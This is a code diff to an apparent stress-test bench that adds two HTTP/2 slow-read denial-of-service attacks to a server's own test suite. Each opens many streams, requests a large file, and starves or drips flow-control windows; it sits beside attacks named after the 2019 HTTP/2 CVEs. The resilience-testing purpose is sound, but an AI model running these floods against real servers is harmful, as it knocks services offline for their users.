@@ -1,5 +1,6 @@
 package io.arbitration.command.bench;
 
+import io.vertx.core.json.JsonObject;
 import java.io.ByteArrayOutputStream;
 import java.net.Socket;
 import java.nio.ByteBuffer;
@@ -11,6 +12,7 @@ import java.util.List;
 final class FrameAttacks {
 
     private static final int AT_ONCE = 16;
+    private static final int DOWNLOADS = 100;
     private static final int READ_BYTES = 65_536;
     private static final byte[] NOTHING = {};
     private static final int DATA = 0;
@@ -39,6 +41,10 @@ final class FrameAttacks {
                 new Attack("pings", "HTTP/2 pings and settings ask for nothing but an acknowledgement (CVE-2019-9512, -9515)",
                         stage -> play(stage, frame(HEADERS, END_HEADERS | END_STREAM, 1, GET), often(frame(PING, 0, 0, new byte[8]), frame(SETTINGS, 0, 0, NOTHING)))),
                 new Attack("closed windows", "HTTP/2 streams are opened, and nothing may be sent on them (CVE-2019-9517)", stage -> play(stage, closedWindows(), NOTHING)),
+                new Attack("HTTP/2 downloads unread", "one user asks for a large file of its own on a hundred HTTP/2 streams of each connection, and nothing may be sent on them",
+                        FrameAttacks::downloadUnread).prepared(stage -> WorkAttacks.upload(stage, "x".repeat(8 * WorkAttacks.PART_BYTES))).beside(Alike.DOWNLOAD),
+                new Attack("HTTP/2 downloads dripped", "the same where each stream may be sent a byte every while", FrameAttacks::downloadDripping)
+                        .prepared(stage -> WorkAttacks.upload(stage, "x".repeat(8 * WorkAttacks.PART_BYTES))).beside(Alike.DOWNLOAD),
                 new Attack("window updates", "HTTP/2 windows are opened by one byte each time (CVE-2019-9511)",
                         stage -> play(stage, together(window(1), frame(HEADERS, END_HEADERS | END_STREAM, 1, GET)), often(frame(WINDOW_UPDATE, 0, 1, number(1))))),
                 new Attack("empty data", "HTTP/2 bodies of frames without a byte (CVE-2019-9518)",
@@ -47,7 +53,7 @@ final class FrameAttacks {
 
     /** Sends frames on sixteen connections, the second ones over and over, and reads what comes; opens another one when the server closes it. */
     private static void play(AttackStage stage, byte[] once, byte[] overAndOver) throws InterruptedException {
-        byte[] first = together("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII), frame(SETTINGS, 0, 0, NOTHING), once);
+        byte[] first = beginning(once);
         stage.together(AT_ONCE, () -> {
             try (Socket socket = stage.connect()) {
                 socket.getOutputStream().write(first);
@@ -61,6 +67,75 @@ final class FrameAttacks {
                 }
             }
         });
+    }
+
+    private static byte[] beginning(byte[] frames) {
+        return together("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII), frame(SETTINGS, 0, 0, NOTHING), frames);
+    }
+
+    private static void downloadUnread(AttackStage stage) throws Exception {
+        play(stage, downloads(stage), NOTHING);
+    }
+
+    private static void downloadDripping(AttackStage stage) throws Exception {
+        ByteArrayOutputStream grants = new ByteArrayOutputStream();
+        for (int stream = 1; stream < 2 * DOWNLOADS; stream += 2) {
+            grants.writeBytes(frame(WINDOW_UPDATE, 0, stream, number(1)));
+        }
+        byte[] first = beginning(downloads(stage));
+        stage.together(AT_ONCE, () -> {
+            try (Socket socket = stage.connect()) {
+                socket.getOutputStream().write(first);
+                byte[] answer = new byte[READ_BYTES];
+                while (!stage.isOver()) {
+                    stage.pause(Duration.ofMillis(500));
+                    socket.getOutputStream().write(grants.toByteArray());
+                    if (socket.getInputStream().read(answer) < 0) {
+                        return;
+                    }
+                }
+            }
+        });
+    }
+
+    /** Requests for a file, on streams that may be sent nothing. */
+    private static byte[] downloads(AttackStage stage) throws Exception {
+        JsonObject request = Attacks.inOwnCase(stage);
+        String uploadId = stage.asked("/api/evidence/uploads/list", request).getJsonArray("uploads").getJsonObject(0).getString("uploadID");
+        byte[] body = request.put("uploadID", uploadId).encode().getBytes(StandardCharsets.US_ASCII);
+        ByteArrayOutputStream head = new ByteArrayOutputStream();
+        // POST, http and localhost; the path and the fields as literals that are not indexed (RFC 7541, section 6.2.2).
+        head.writeBytes(new byte[] {(byte) 0x83, (byte) 0x86, 0x01, 0x09, 'l', 'o', 'c', 'a', 'l', 'h', 'o', 's', 't'});
+        literal(head, ":path", "/api/evidence/uploads/download");
+        literal(head, "content-type", "application/json");
+        literal(head, "content-length", String.valueOf(body.length));
+        literal(head, "authorization", "Bearer " + stage.attacker().token());
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        bytes.writeBytes(window(0));
+        for (int stream = 1; stream < 2 * DOWNLOADS; stream += 2) {
+            bytes.writeBytes(frame(HEADERS, END_HEADERS, stream, head.toByteArray()));
+            bytes.writeBytes(frame(DATA, END_STREAM, stream, body));
+        }
+        return bytes.toByteArray();
+    }
+
+    private static void literal(ByteArrayOutputStream head, String name, String value) {
+        head.write(0);
+        text(head, name);
+        text(head, value);
+    }
+
+    /** A length of seven bits, and more behind them where it is longer (RFC 7541, section 5.1). */
+    private static void text(ByteArrayOutputStream head, String text) {
+        int rest = text.length() - 127;
+        head.write(Math.min(text.length(), 127));
+        if (rest >= 0) {
+            for (; rest >= 128; rest /= 128) {
+                head.write(rest % 128 + 128);
+            }
+            head.write(rest);
+        }
+        head.writeBytes(text.getBytes(StandardCharsets.US_ASCII));
     }
 
     private static byte[] resets() {
